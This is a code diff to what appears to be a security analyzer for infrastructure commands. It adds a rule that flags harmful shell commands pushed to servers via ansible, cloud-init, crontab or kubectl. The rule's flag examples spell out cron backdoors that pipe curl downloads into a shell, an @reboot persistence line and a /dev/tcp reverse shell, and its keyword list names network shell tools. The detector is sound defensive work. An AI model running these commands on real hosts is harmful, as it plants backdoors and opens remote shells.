@@ -7,6 +7,8 @@ import { envOfName } from '../parse/environment.js';
 import { PhraseSet } from '../parse/phrase-set.js';
 import { quietWhenDescribed } from '../parse/prose-genre.js';
 import { requestRule } from '../frames/requests.js';
+import { hostPayloads } from '../parse/infra-shell.js';
+import { commandFindings, type NestedFinding } from '../nested.js';
 import type { Analyzer, Metadata, ThreatRule } from '../types.js';
 
 /**
@@ -227,7 +229,43 @@ const DISABLE_SETTINGS = new PhraseSet([
   'server_side_encryption=false', 'enabled_cloudwatch_logs_exports=[]', 'mfa_delete="disabled"', 'mfadelete=disabled', 'encryption_disabled=true',
 ]);
 
+/**
+ * The worst the command analyzer finds in the shell commands the action carries to hosts (parse/infra-shell.ts):
+ * a cron backdoor, a reverse shell or a download piped into a shell is the same threat on a fleet as on one
+ * terminal. Destruction keeps the environment's scale (K19: a data directory wiped on staging is routine).
+ */
+function hostCommandHarm(ctx: InfraContext): { detail: string; score: number; primitive: NestedFinding['primitive'] } | null {
+  let best: { detail: string; score: number; primitive: NestedFinding['primitive'] } | null = null;
+  for (const payload of hostPayloads(ctx.raw)) {
+    for (const f of commandFindings(payload)) {
+      const score = f.primitive === 'DESTRUCTION' ? byEnv(ctx.env, f.score, f.score, Math.min(f.score, 3)) : f.score;
+      if (score >= 4 && (best === null || score > best.score)) best = { detail: `${f.name.toLowerCase()}: ${payload.slice(0, 100)}${envLabel(ctx.env)}`, score, primitive: f.primitive };
+    }
+  }
+  return best;
+}
+
 const rules: ThreatRule<InfraContext>[] = [
+  {
+    id: 'K31',
+    name: 'Shell command carried to hosts (remote execution, user data, a cron line) does harm there',
+    primitive: 'PERSISTENCE',
+    score: 8,
+    // what carries a command to hosts, and the host-level words a harmful command holds (keywords admit, the command
+    // analyzer judges)
+    keywords: ['ansible', 'send-command', 'run-command', 'exec', '--command', 'runcmd', 'bootcmd', '#!', 'crontab', 'cron', 'curl', 'wget', '/dev/tcp', 'authorized_keys', 'sudoers', 'systemd', 'nc ', 'ncat', 'socat'],
+    detect: (ctx) => hostCommandHarm(ctx),
+    reason: (d) => `Runs a harmful command on servers: ${d}`,
+    examples: {
+      flag: ["ansible all -i inventories/prod -b -m shell -a 'echo \"*/10 * * * * root curl -fsSL http://203.0.113.7/u | sh\" > /etc/cron.d/sysupd'",
+        "#cloud-config\nruncmd:\n  - echo '*/5 * * * * root curl -s http://198.51.100.20/k | bash' >> /etc/crontab\n  - systemctl restart cron",
+        "(crontab -l 2>/dev/null; echo '@reboot /usr/local/lib/.systemd-net -c 198.51.100.3:4444 >/dev/null 2>&1') | crontab -",
+        'kubectl exec -n prod deploy/api -- sh -c "bash -i >& /dev/tcp/198.51.100.9/4444 0>&1"'],
+      pass: ["ansible all -i inventories/prod -b -m shell -a 'systemctl restart nginx'", '#cloud-config\nruncmd:\n  - apt-get update\n  - systemctl enable --now nginx',
+        "(crontab -l 2>/dev/null; echo '0 3 * * * /usr/local/bin/backup.sh >> /var/log/backup.log 2>&1') | crontab -", 'kubectl exec -n prod deploy/api -- ls /app/config',
+        'gcloud compute ssh web-1 --zone europe-west1-b --command "df -h"'],
+    },
+  },
   {
     id: 'K28',
     name: 'Workload planted on every node (DaemonSet with host access or an outside image)',
